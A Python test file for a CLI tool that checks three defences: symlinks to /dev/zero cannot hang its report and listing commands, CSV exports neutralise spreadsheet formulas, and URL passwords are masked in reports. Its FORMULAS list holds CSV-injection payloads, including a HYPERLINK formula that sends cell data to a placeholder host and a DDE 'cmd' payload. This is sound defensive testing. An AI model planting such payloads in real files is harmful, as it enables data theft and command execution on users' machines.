"""Issue 20, items 8 and 11: a run directory someone else wrote cannot make `elicit report` or
`elicit runs` read without end, and claims text exported as CSV cannot run as a spreadsheet
formula.

The hostile run directories are built here: a finished label run whose plot, metrics.json and
labels.jsonl are replaced by links to /dev/zero, and claims whose text starts with =, +, -, @."""

from __future__ import annotations

import csv
import threading
from pathlib import Path

import pytest
from adversary import cli, label_run

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "=1+1"]  # fmt: skip


def _number(cell: str) -> bool:
    """A negative score is a number to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _finishes_within(seconds: float, fn) -> None:  # type: ignore[no-untyped-def]
    """Run fn in a thread; fail (instead of hanging the suite) if it outlives `seconds`."""
    failure: list[BaseException] = []

    def run() -> None:
        try:
            fn()
        except BaseException as e:  # re-raised below, in the test's thread
            failure.append(e)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still reading after {seconds} s"
    if failure:
        raise failure[0]


def test_links_to_an_endless_device_are_not_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "claims.csv"
    data.write_text("uid,text,label\n" + "".join(f"c{i},Claim {i}.,{i % 2}\n" for i in range(8)))
    run = tmp_path / "runs" / "label"
    assert label_run(capsys, data, run).status == 0
    for name in ("energy_plot.png", "extra_plot.png", "labels.jsonl"):
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to("/dev/zero")
    page = tmp_path / "report.html"

    def report() -> None:
        assert cli(capsys, "report", str(run), "--out", str(page)).status == 0

    _finishes_within(60, report)
    assert "not a PNG image" in page.read_text(encoding="utf-8")
    (run / "metrics.json").unlink()
    (run / "metrics.json").symlink_to("/dev/zero")

    def listing() -> None:
        assert cli(capsys, "runs", str(tmp_path / "runs")).status == 0

    _finishes_within(60, listing)


def test_csv_export_leaves_no_formula_live(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "claims.csv"
    with data.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["uid", "text", "label"])
        for i, text in enumerate(FORMULAS * 2):
            writer.writerow([f"{text}" if i < len(FORMULAS) else f"u{i}", text, i % 2])
    run = tmp_path / "label"
    assert label_run(capsys, data, run).status == 0
    out = tmp_path / "labels.csv"
    done = cli(capsys, "export", str(run), "--format", "csv", "--out", str(out))
    assert done.status == 0, done.err
    with out.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert not live, live
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # kept, as inert text


def test_a_password_in_an_older_runs_config_never_reaches_a_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Runs written before config.json hid URL passwords still hold them: report and runs
    show the URL with the password replaced."""
    import json

    data = tmp_path / "claims.csv"
    data.write_text("uid,text,label\n" + "".join(f"c{i},Claim {i}.,{i % 2}\n" for i in range(8)))
    run = tmp_path / "runs" / "label"
    assert label_run(capsys, data, run).status == 0
    config = json.loads((run / "config.json").read_text())
    config["model"] = "openai:http://carol:s3cr3t@10.0.0.1:8000/v1/m"
    (run / "config.json").write_text(json.dumps(config))
    page = tmp_path / "report.html"
    assert cli(capsys, "report", str(run), "--out", str(page)).status == 0
    html = page.read_text(encoding="utf-8")
    assert "s3cr3t" not in html and "carol:***@10.0.0.1" in html
    listed = cli(capsys, "runs", str(tmp_path / "runs"), "--json")
    assert "s3cr3t" not in listed.out and "carol:***@" in listed.out
